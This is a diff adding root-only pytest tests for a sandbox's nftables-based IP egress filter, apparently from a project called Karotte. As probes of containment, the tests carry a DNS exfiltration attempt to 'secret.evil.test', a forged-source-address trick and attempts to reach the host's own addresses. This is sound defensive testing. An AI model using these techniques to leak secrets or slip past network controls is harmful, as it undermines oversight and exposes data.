@@ -1,0 +1,388 @@
+"""The ip mode (karotte/egress/ip.py): a veth into the sandbox, nftables rules on the host.
+
+Root only. Every peer is in a network namespace this test makes, reached through a veth
+this test makes (10.214.<n>.0/24, forwarding on its host end only): TCP servers and a
+UDP server at .2, a second address .3 with the same servers. Names resolve through a
+table the test holds, never real DNS."""
+from __future__ import annotations
+
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import textwrap
+import time
+from itertools import count
+
+import pytest
+
+from karotte import gc, net
+from karotte.egress import EgressConfigError, parse_policy, static_resolver
+from karotte.egress import ip
+from karotte.sandbox import Sandbox
+from karotte.spec import SandboxSpec
+
+pytestmark = [
+    pytest.mark.skipif(os.geteuid() != 0, reason="the ip mode needs root"),
+    pytest.mark.skipif(os.geteuid() == 0 and ip.unavailable() is not None,
+                       reason=f"{ip.unavailable()}"),
+]
+
+SERVER = textwrap.dedent("""
+    import socket, sys, threading
+    log = open(sys.argv[1], "a", buffering=1)
+    def tcp(port):
+        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.bind(("0.0.0.0", port)); s.listen(16)
+        while True:
+            c, peer = s.accept(); log.write(f"tcp {port} {c.getsockname()[0]}\\n")
+            c.sendall(f"tcp{port}".encode()); c.close()
+    def udp(port):
+        s = socket.socket(type=socket.SOCK_DGRAM); s.bind(("0.0.0.0", port))
+        while True:
+            data, peer = s.recvfrom(4096); log.write(f"udp {port} {data[:40]!r}\\n")
+            s.sendto(b"udp" + str(port).encode(), peer)
+    for p in (5432, 6000):
+        threading.Thread(target=tcp, args=(p,), daemon=True).start()
+    threading.Thread(target=udp, args=(53,), daemon=True).start()
+    threading.Thread(target=udp, args=(5353,), daemon=True).start()
+    print("ready", flush=True)
+    threading.Event().wait()
+""")
+
+# What the agent runs: one connection per argument, PROTO:ADDRESS:PORT, one line each.
+CLIENT = textwrap.dedent("""
+    import socket, sys
+    for arg in sys.argv[1:]:
+        proto, host, port = arg.split(":")
+        try:
+            if proto == "tcp":
+                s = socket.create_connection((host, int(port)), timeout=3)
+                print(arg, "ok", s.recv(100).decode())
+            else:
+                s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(3)
+                s.sendto(b"query secret.evil.test", (host, int(port)))
+                print(arg, "ok", s.recv(100).decode())
+        except OSError as exc:
+            print(arg, "err", type(exc).__name__)
+""")
+
+_peers = count(1)
+REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+
+
+def _sh(*argv):
+    subprocess.run(argv, check=True, capture_output=True)
+
+
+class Peer:
+    """A namespace of the test's own with servers on 10.214.<n>.2 and .3."""
+
+    def __init__(self, tmp, forwarding=True):
+        n = next(_peers) + os.getpid() % 200
+        self.ns, self.host_if = f"ktip{os.getpid()}-{n}", f"ktiph{n}"
+        self.a, self.b = f"10.214.{n}.2", f"10.214.{n}.3"
+        self.log = os.path.join(tmp, f"peer{n}.log")
+        _sh("ip", "netns", "add", self.ns)
+        _sh("ip", "link", "add", self.host_if, "type", "veth", "peer", "name", "p0",
+            "netns", self.ns)
+        _sh("ip", "addr", "add", f"10.214.{n}.1/24", "dev", self.host_if)
+        _sh("ip", "link", "set", self.host_if, "up")
+        # the replies to the sandbox come in here and are forwarded: this interface only
+        with open(f"/proc/sys/net/ipv4/conf/{self.host_if}/forwarding", "w") as f:
+            f.write("1" if forwarding else "0")
+        for addr in (self.a, self.b):
+            _sh("ip", "-n", self.ns, "addr", "add", f"{addr}/24", "dev", "p0")
+        _sh("ip", "-n", self.ns, "link", "set", "p0", "up")
+        _sh("ip", "-n", self.ns, "link", "set", "lo", "up")
+        self.server = subprocess.Popen(["ip", "netns", "exec", self.ns, sys.executable,
+                                        "-c", SERVER, self.log], stdout=subprocess.PIPE)
+        assert self.server.stdout.readline() == b"ready\n"
+
+    def seen(self):
+        with open(self.log) as f:
+            return f.read()
+
+    def close(self):
+        self.server.kill()
+        self.server.wait()
+        subprocess.run(["ip", "link", "del", self.host_if], capture_output=True)
+        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)
+
+
+@pytest.fixture
+def peer(tmp_path):
+    p = Peer(str(tmp_path))
+    yield p
+    p.close()
+
+
+@pytest.fixture(autouse=True)
+def names(request):
+    old = net.use_ip_resolver(static_resolver({"db.test": ["10.214.250.2"]}))
+    yield
+    net.use_ip_resolver(old)
+
+
+def ip_sandbox(allow):
+    return Sandbox(SandboxSpec(network=parse_policy(allow, mode="ip")))
+
+
+def reach(sb, *targets):
+    r = sb.exec(["python3", "-c", CLIENT, *targets], timeout=60)
+    assert r.exit_code == 0, r.stderr
+    return dict(line.split(" ", 1) for line in r.stdout.decode().splitlines())
+
+
+def host_state(wait=True):
+    """(the kip interfaces, Karotte's nft tables) on the host; wait: give the kernel up
+    to 5 s to free the veths of namespaces that are gone (it does so asynchronously)."""
+    deadline = time.monotonic() + (5 if wait else 0)
+    while True:
+        state = _host_state()
+        if not state[0] or time.monotonic() > deadline:
+            return state
+        time.sleep(0.01)
+
+
+def _host_state():
+    links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout
+    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
+    return ([line.split(":")[1].strip().split("@")[0] for line in links.splitlines()
+             if line.split(":")[1].strip().startswith(ip.IFNAME_PREFIX)],
+            [t for t in tables.splitlines() if "karotte-" in t])
+
+
+def test_allowed_port_is_reached_other_port_and_address_refused(peer):
+    with ip_sandbox([f"{peer.a}:5432", f"{peer.a}:5353"]) as sb:
+        got = reach(sb, f"tcp:{peer.a}:5432", f"udp:{peer.a}:5353",
+                    f"tcp:{peer.a}:6000", f"tcp:{peer.b}:5432", f"udp:{peer.a}:53")
+        record = sb._core.ip.record()
+    assert got[f"tcp:{peer.a}:5432"] == "ok tcp5432"
+    assert got[f"udp:{peer.a}:5353"] == "ok udp5353"
+    assert got[f"tcp:{peer.a}:6000"].startswith("err")
+    assert got[f"tcp:{peer.b}:5432"].startswith("err")
+    assert got[f"udp:{peer.a}:53"].startswith("err")
+    seen = peer.seen()
+    assert "tcp 5432" in seen and "udp 5353" in seen
+    assert "tcp 6000" not in seen and peer.b not in seen and "udp 53 " not in seen
+    reached = {(r.address, r.port, r.protocol): r for r in record.reaches}
+    assert reached[(f"{peer.a}", "5432", None)].allowed
+    assert reached[(f"{peer.a}", "5353", None)].packets == 1
+    for key in ((peer.a, "6000", "tcp"), (peer.b, "5432", "tcp"), (peer.a, "53", "udp")):
+        assert not reached[key].allowed and reached[key].reason == "ip_literal"
+    assert record.refused_packets >= 3
+    assert json.dumps(record.to_dict())
+
+
+def test_EGRESS_IPDNS_01_no_query_leaves_the_sandbox(peer):
+    """A secret in a name carries nothing out: the sandbox has no resolver, the host's
+    resolver address is not its own, and port 53 of a reachable peer is refused."""
+    with ip_sandbox([f"{peer.a}:5432"]) as sb:
+        r = sb.exec(["sh", "-c", "getent hosts secret.evil.test; echo rc=$?"], timeout=60)
+        got = reach(sb, f"udp:{peer.a}:53", f"tcp:{peer.a}:53")
+    assert b"rc=2" in r.stdout
+    assert all(v.startswith("err") for v in got.values())
+    assert "53" not in peer.seen()
+
+
+def test_EGRESS_IPHOST_01_the_hosts_own_addresses_are_unreachable(peer):
+    """Nothing from the sandbox reaches the host itself: not its loopback (the
+    sandbox's 127.0.0.1 is its own), not the veth's host end, not another address of
+    the host (the peer veth's host end), even when the list names that address."""
+    listener = socket.socket()
+    listener.bind(("0.0.0.0", 0))
+    listener.listen(4)
+    port = listener.getsockname()[1]
+    try:
+        with ip_sandbox([f"{peer.a}:5432", f"{peer.a.rsplit('.', 1)[0]}.1:{port}"]) as sb:
+            host_end = sb._core.ip.host_address
+            got = reach(sb, f"tcp:127.0.0.1:{port}", f"tcp:{host_end}:{port}",
+                        f"tcp:{peer.a.rsplit('.', 1)[0]}.1:{port}")
+            record = sb._core.ip.record()
+        assert all(v.startswith("err") for v in got.values()), got
+        refused = {(r.address, r.reason) for r in record.reaches if not r.allowed}
+        assert (host_end, "internal_address") in refused
+        assert (f"{peer.a.rsplit('.', 1)[0]}.1", "internal_address") in refused
+        listener.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    finally:
+        listener.close()
+
+
+def test_EGRESS_IPSPOOF_01_a_forged_source_address_is_refused(peer):
+    """An agent that could set another source (root with CAP_NET_RAW in its namespace)
+    gets nothing out: the rules accept only the sandbox's own address."""
+    with ip_sandbox([f"{peer.a}:5353"]) as sb:
+        link = sb._core.ip
+        # the host plays the agent's forgery: a second address inside, used as source
+        subprocess.run(["nsenter", "-t", str(sb._core.pid), "-n", "ip", "addr", "add",
+                        "10.213.255.254/32", "dev", "eth0"], check=True)
+        r = sb.exec(["python3", "-c", textwrap.dedent(f"""
+            import socket
+            s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(2)
+            s.bind(("10.213.255.254", 0))
+            s.sendto(b"forged", ("{peer.a}", 5353))
+            try: print("ok", s.recv(10))
+            except OSError as e: print("err", type(e).__name__)
+        """)], timeout=60)
+        assert link.record().refused_packets >= 1
+    assert r.stdout.startswith(b"err"), r.stdout
+    assert "forged" not in peer.seen()
+
+
+def test_EGRESS_IPISOLATION_01_two_sandboxes_with_different_lists_stay_apart(peer):
+    with ip_sandbox([f"{peer.a}:5432"]) as one, ip_sandbox([f"{peer.a}:6000"]) as two:
+        assert one._core.ip.sandbox_address != two._core.ip.sandbox_address
+        got_one = reach(one, f"tcp:{peer.a}:5432", f"tcp:{peer.a}:6000")
+        got_two = reach(two, f"tcp:{peer.a}:5432", f"tcp:{peer.a}:6000",
+                        f"tcp:{one._core.ip.sandbox_address}:5432")
+    assert got_one[f"tcp:{peer.a}:5432"] == "ok tcp5432"
+    assert got_one[f"tcp:{peer.a}:6000"].startswith("err")
+    assert got_two[f"tcp:{peer.a}:6000"] == "ok tcp6000"
+    assert got_two[f"tcp:{peer.a}:5432"].startswith("err")
+    assert all(v.startswith("err") for k, v in got_two.items() if "10.213." in k)
+
+
+def test_names_resolve_on_the_host_once_through_the_proxys_guard(peer):
+    """A name is resolved at start; one that resolves to a private address the list
+    does not name is refused by the same guard as the proxy's (DNS rebinding)."""
+    net.use_ip_resolver(static_resolver({"db.test": [peer.a]}))
+    with pytest.raises(EgressConfigError, match=f"internal_address.*{peer.a}"):
+        ip_sandbox(["db.test:5432"])
+    with ip_sandbox(["db.test:5432", f"{peer.a}:5432"]) as sb:
+        assert [r.network for r in sb._core.ip.rules] == [f"{peer.a}/32"] * 2
+        assert reach(sb, f"tcp:{peer.a}:5432") == {f"tcp:{peer.a}:5432": "ok tcp5432"}
+    assert host_state() == ([], [])
+
+
+@pytest.mark.skipif(open("/proc/sys/net/ipv4/conf/all/forwarding").read().strip() == "1",
+                    reason="this host forwards on every interface")
+def test_refused_when_the_replies_could_not_come_back(tmp_path):
+    peer = Peer(str(tmp_path), forwarding=False)
+    try:
+        with pytest.raises(EgressConfigError, match=rf"{peer.host_if}.forwarding=1"):
+            ip_sandbox([f"{peer.a}:5432"])
+    finally:
+        peer.close()
+    assert host_state() == ([], [])
+
+
+def test_ip_mode_takes_no_wildcards_upstreams_or_ipv6():
+    for allow in (["*.example.com:22"], ["*:22"], ["[fd00::1]:22"]):
+        with pytest.raises(EgressConfigError, match="ip mode"):
+            parse_policy(allow, mode="ip")
+    with pytest.raises(EgressConfigError, match="proxy"):
+        parse_policy([], {"model": "https://api.example.com"}, mode="ip")
+    with pytest.raises(EgressConfigError, match="'proxy'.*'ip'"):
+        parse_policy([], mode="tun")
+
+
+def test_ip_mode_has_no_proxy_listeners_or_variables(peer):
+    with ip_sandbox([f"{peer.a}:5432"]) as sb:
+        r = sb.exec(["sh", "-c", "env | grep -i proxy; tail -n +3 /proc/net/dev | cut -d: -f1"],
+                    timeout=60)
+        assert sb.egress_record() is None
+    assert sorted(r.stdout.split()) == [b"eth0", b"lo"]
+
+
+def test_teardown_leaves_no_interface_and_no_table(peer):
+    before = host_state()
+    with ip_sandbox([f"{peer.a}:5432"]) as sb:
+        during = host_state(wait=False)
+        assert sb._core.ip.interface in during[0]
+        assert any(sb._core.ip.table in t for t in during[1])
+    assert host_state() == before
+
+
+def test_a_failed_start_leaves_nothing(peer, monkeypatch):
+    before = host_state()
+    monkeypatch.setattr(ip.IpLink, "_ruleset", lambda self: "table inet bad { syntax")
+    with pytest.raises(EgressConfigError, match="nftables refused"):
+        ip_sandbox([f"{peer.a}:5432"])
+    assert host_state() == before
+
+
+TRAINER = textwrap.dedent("""
+    import sys, time
+    from karotte.egress import parse_policy
+    from karotte.sandbox import Sandbox
+    from karotte.spec import SandboxSpec
+    sb = Sandbox(SandboxSpec(network=parse_policy([sys.argv[1]], mode="ip")))
+    print(sb._core.ip.table, sb._core.ip.interface, flush=True)
+    time.sleep(600)
+""")
+
+
+def test_EGRESS_IPORPHAN_01_gc_removes_what_a_killed_trainer_left(peer):
+    trainer = subprocess.Popen([sys.executable, "-c", TRAINER, f"{peer.a}:5432"],
+                               stdout=subprocess.PIPE)
+    table, interface = trainer.stdout.readline().decode().split()
+    assert any(table in t for t in host_state(wait=False)[1])
+    alive = [leftover.name for leftover in gc.find() if leftover.kind == gc.NETWORK]
+    assert table not in alive  # its trainer lives: not a leftover
+    os.kill(trainer.pid, signal.SIGKILL)
+    trainer.wait()
+    found = [leftover for leftover in gc.find() if leftover.name == table]
+    assert [f.kind for f in found] == [gc.NETWORK]
+    assert f"nft table inet {table}" in found[0].paths
+    gc_cli = os.path.join(os.path.dirname(sys.executable), "karotte-sandbox")
+    r = subprocess.run([gc_cli, "gc", "--dry-run"], capture_output=True, text=True, timeout=60)
+    assert f"would remove network nft table inet {table}" in r.stdout, (r.stdout, r.stderr)
+    removals = gc.remove(found)  # only this test's: others' leftovers are theirs to judge
+    assert [r.removed for r in removals] == [True], removals
+    assert host_state() == ([], [])
+    assert not [f for f in gc.find() if f.kind == gc.NETWORK]
+
+
+def test_refused_for_a_caller_that_is_not_root():
+    code = textwrap.dedent("""
+        from karotte.egress import ip
+        print(ip.unavailable())
+    """)
+    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
+                        sys.executable, "-c", code], capture_output=True, text=True,
+                       cwd=tempfile.gettempdir(), env={**os.environ, "PYTHONPATH": REPO})
+    assert "needs root" in r.stdout and "proxy mode" in r.stdout, (r.stdout, r.stderr)
+
+
+def test_refused_for_a_caller_that_is_not_root_at_start(monkeypatch):
+    monkeypatch.setattr(os, "geteuid", lambda: 1000)
+    with pytest.raises(EgressConfigError, match="needs root.*proxy mode"):
+        ip_sandbox(["10.214.250.2:5432"])
+    monkeypatch.undo()
+    assert host_state() == ([], [])
+
+
+def test_cli_exec_allow_in_ip_mode(peer):
+    r = subprocess.run([os.path.join(os.path.dirname(sys.executable), "karotte-sandbox"), "exec", "--net",
+                        "ip", "--allow", f"{peer.a}:5432", "--json", "--", "python3", "-c",
+                        CLIENT, f"tcp:{peer.a}:5432", f"tcp:{peer.a}:6000"],
+                       capture_output=True, text=True, timeout=120)
+    assert r.returncode == 0, r.stderr
+    out = json.loads(r.stdout.strip().splitlines()[-1])
+    assert f"tcp:{peer.a}:5432 ok tcp5432" in out["stdout"]
+    assert f"tcp:{peer.a}:6000 err" in out["stdout"]
+    assert host_state() == ([], [])
+
+
+def test_async_sandbox_in_ip_mode_resolves_under_a_running_loop(peer):
+    """An AsyncSandbox starts under the caller's event loop, and a Sandbox may be made
+    inside a coroutine: the names are still resolved once at start, by the same check."""
+    import asyncio
+    from karotte.sandbox import AsyncSandbox
+    net.use_ip_resolver(static_resolver({"db.test": [peer.a]}))
+
+    async def main():
+        spec = SandboxSpec(network=parse_policy(["db.test:5432", f"{peer.a}:5432"], mode="ip"))
+        with Sandbox(spec) as sync:
+            assert sync._core.ip.rules[0].network == f"{peer.a}/32"
+        async with AsyncSandbox(spec) as sb:
+            r = await sb.exec(["python3", "-c", CLIENT, f"tcp:{peer.a}:5432"], timeout=60)
+        return r.stdout.decode()
+    assert "ok tcp5432" in asyncio.run(main())
+    assert host_state() == ([], [])
